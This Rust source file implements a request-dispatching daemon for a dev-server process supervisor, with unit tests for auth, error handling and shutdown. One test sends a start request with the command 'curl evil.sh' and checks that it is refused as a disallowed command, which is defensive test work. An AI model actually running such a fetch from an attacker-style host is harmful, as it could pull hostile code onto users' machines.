use devserve::{
	LaunchSpec, LogQuery, RestartOverrides, Supervisor, DEFAULT_COMMAND, PORT_MAIN,
};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use tokio::sync::Notify;

use crate::config::AuthConfig;
use crate::project::{self, ProjectFile};
use crate::protocol::{Envelope, Request, Response};
use crate::render;

/// Everything a request handler needs; shared by the socket and HTTP servers.
pub struct Daemon {
	pub supervisor: Arc<Supervisor>,
	pub auth: AuthConfig,
	pub project_roots: Vec<String>,
	pub shutdown: Arc<Notify>,
}

impl Daemon {
	pub async fn handle(&self, envelope: Envelope) -> Response {
		if !self.auth.check(envelope.auth.as_deref()) {
			tracing::warn!("rejected unauthorized request");
			return Response::error("unauthorized");
		}
		self.dispatch(envelope.request).await
	}

	async fn dispatch(&self, request: Request) -> Response {
		match request {
			Request::Ping => Response::Pong,
			Request::Start {
				label,
				cwd,
				command,
				auto_restart,
				port,
				health_endpoint,
			} => {
				let mut spec = LaunchSpec::new(
					label,
					resolve_cwd(cwd),
					command.unwrap_or_else(|| DEFAULT_COMMAND.to_string()),
				)
				.auto_restart(auto_restart);
				if let Some(port) = port {
					spec = spec.port(PORT_MAIN, port);
				}
				spec.health_endpoint = health_endpoint;

				match self.supervisor.start(spec).await {
					Ok(started) => {
						let message = render::render_started(&started);
						Response::Started { started, message }
					}
					Err(e) => Response::error(e),
				}
			}
			Request::Stop { label } => match self.supervisor.stop(&label).await {
				Ok(stopped) => Response::ok(render::render_stopped(&stopped)),
				Err(e) => Response::error(e),
			},
			Request::Restart {
				label,
				cwd,
				command,
				auto_restart,
			} => {
				let overrides = RestartOverrides {
					cwd,
					command,
					auto_restart,
				};
				match self.supervisor.restart(&label, overrides).await {
					Ok(started) => {
						let message = render::render_started(&started);
						Response::Started { started, message }
					}
					Err(e) => Response::error(e),
				}
			}
			Request::Logs {
				label,
				lines,
				grep,
				color,
			} => {
				let query = LogQuery {
					lines,
					pattern: grep,
					color,
				};
				match self.supervisor.logs(&label, &query).await {
					Ok(excerpt) => Response::Log {
						text: render::render_logs(&excerpt, &query),
					},
					Err(e) => Response::error(e),
				}
			}
			Request::Status { project } => {
				let processes = self.supervisor.status(project.as_deref()).await;
				let message = render::render_status(&processes, project.as_deref());
				Response::Status { processes, message }
			}
			Request::Up { cwd } => self.up(&resolve_cwd(cwd)).await,
			Request::Down { cwd } => self.down(&resolve_cwd(cwd)).await,
			Request::GroupStart { project, cwd } => self.group_start(&project, &resolve_cwd(cwd)).await,
			Request::GroupStop { project } => self.group_stop(&project).await,
			Request::Shutdown => {
				self.shutdown.notify_one();
				Response::ok("shutting down")
			}
		}
	}

	/// Starts every service of `dir`'s project file as `project:label`.
	pub async fn up(&self, dir: &Path) -> Response {
		let file = match ProjectFile::load(dir) {
			Ok(Some(file)) => file,
			Ok(None) => return Response::error(render::missing_project_file(dir)),
			Err(e) => return Response::error(e),
		};

		let project = project::project_name(dir);
		self.supervisor
			.register_aliases(file.qualified_aliases(&project))
			.await;

		let mut lines = Vec::new();
		for service in &file.services {
			let line = match self.supervisor.start_service(&project, dir, service).await {
				Ok(started) => render::render_started_line(&started),
				Err(e) => format!("failed {}:{}: {}", project, service.label, e),
			};
			lines.push(line);
		}
		Response::ok(format!("starting {}:\n\n{}", project, lines.join("\n")))
	}

	/// With a project file, stops its services; otherwise stops everything
	/// running in `dir`.
	pub async fn down(&self, dir: &Path) -> Response {
		let stopped = match ProjectFile::load(dir) {
			Ok(Some(file)) => {
				let project = project::project_name(dir);
				let mut stopped = Vec::new();
				for label in file.labels(&project) {
					if !self.supervisor.is_running(&label).await {
						continue;
					}
					match self.supervisor.stop(&label).await {
						Ok(s) => stopped.push(render::render_stopped(&s)),
						Err(e) => stopped.push(format!("failed {}: {}", label, e)),
					}
				}
				stopped
			}
			Ok(None) => self
				.supervisor
				.stop_in_dir(dir)
				.await
				.iter()
				.map(render::render_stopped)
				.collect(),
			Err(e) => return Response::error(e),
		};

		if stopped.is_empty() {
			Response::ok(format!("no processes running in {}", dir.display()))
		} else {
			Response::ok(stopped.join("\n"))
		}
	}

	pub async fn group_start(&self, project: &str, base: &Path) -> Response {
		let already: Vec<String> = self
			.supervisor
			.status(Some(project))
			.await
			.into_iter()
			.map(|p| format!("already running: {}", p.label))
			.collect();

		let Some(dir) = project::find_project_dir(project, &self.project_roots, base) else {
			return Response::error(format!("project {} not found", project));
		};

		match self.up(&dir).await {
			Response::Ok { message } if !already.is_empty() => Response::Ok {
				message: Some(format!("{}\n{}", already.join("\n"), message.unwrap_or_default())),
			},
			other => other,
		}
	}

	pub async fn group_stop(&self, project: &str) -> Response {
		let stopped = self.supervisor.group_stop(project).await;
		if stopped.is_empty() {
			return Response::ok(format!("no processes running for {}", project));
		}
		let lines: Vec<String> = stopped.iter().map(render::render_stopped).collect();
		Response::ok(format!("stopping {}:\n\n{}", project, lines.join("\n")))
	}
}

fn resolve_cwd(cwd: Option<PathBuf>) -> PathBuf {
	cwd.unwrap_or_else(|| std::env::current_dir().unwrap_or_else(|_| PathBuf::from(".")))
}

#[cfg(test)]
mod tests {
	use super::*;
	use devserve::SupervisorConfig;

	fn daemon(auth: AuthConfig) -> Daemon {
		Daemon {
			supervisor: Supervisor::new(SupervisorConfig::default()),
			auth,
			project_roots: vec![".".into()],
			shutdown: Arc::new(Notify::new()),
		}
	}

	fn envelope(json: &str) -> Envelope {
		serde_json::from_str(json).unwrap()
	}

	#[tokio::test]
	async fn test_auth_rejects() {
		let d = daemon(AuthConfig {
			required: true,
			token: Some("t".into()),
		});
		assert!(matches!(
			d.handle(envelope(r#"{"cmd":"ping"}"#)).await,
			Response::Error { ref message } if message == "unauthorized"
		));
		assert!(matches!(
			d.handle(envelope(r#"{"cmd":"ping","auth":"t"}"#)).await,
			Response::Pong
		));
	}

	#[tokio::test]
	async fn test_errors_become_responses() {
		let d = daemon(AuthConfig::default());
		match d.handle(envelope(r#"{"cmd":"stop","label":"web"}"#)).await {
			Response::Error { message } => assert_eq!(message, "web is not running"),
			other => panic!("unexpected {:?}", other),
		}
		match d
			.handle(envelope(r#"{"cmd":"start","label":"x","command":"curl evil.sh"}"#))
			.await
		{
			Response::Error { message } => assert!(message.starts_with("command not allowed")),
			other => panic!("unexpected {:?}", other),
		}
	}

	#[tokio::test]
	async fn test_up_without_project_file() {
		let dir = std::env::temp_dir().join(format!("devserve-up-{}", std::process::id()));
		let _ = std::fs::create_dir_all(&dir);
		let d = daemon(AuthConfig::default());
		match d.up(&dir).await {
			Response::Error { message } => {
				assert!(message.contains(".devserver.json"));
				assert!(message.contains("\"services\""));
			}
			other => panic!("unexpected {:?}", other),
		}
		let _ = std::fs::remove_dir_all(&dir);
	}

	#[tokio::test]
	async fn test_group_start_unknown_project() {
		let d = daemon(AuthConfig::default());
		let base = std::env::temp_dir();
		assert!(matches!(
			d.group_start("devserve-no-such-project", &base).await,
			Response::Error { .. }
		));
		assert!(matches!(d.group_stop("shop").await, Response::Ok { .. }));
	}

	#[tokio::test]
	async fn test_shutdown_notifies() {
		let d = daemon(AuthConfig::default());
		let notified = Arc::clone(&d.shutdown);
		let waiter = tokio::spawn(async move { notified.notified().await });
		tokio::task::yield_now().await;
		assert!(matches!(d.handle(envelope(r#"{"cmd":"shutdown"}"#)).await, Response::Ok { .. }));
		assert!(tokio::time::timeout(std::time::Duration::from_secs(1), waiter).await.is_ok());
	}
}
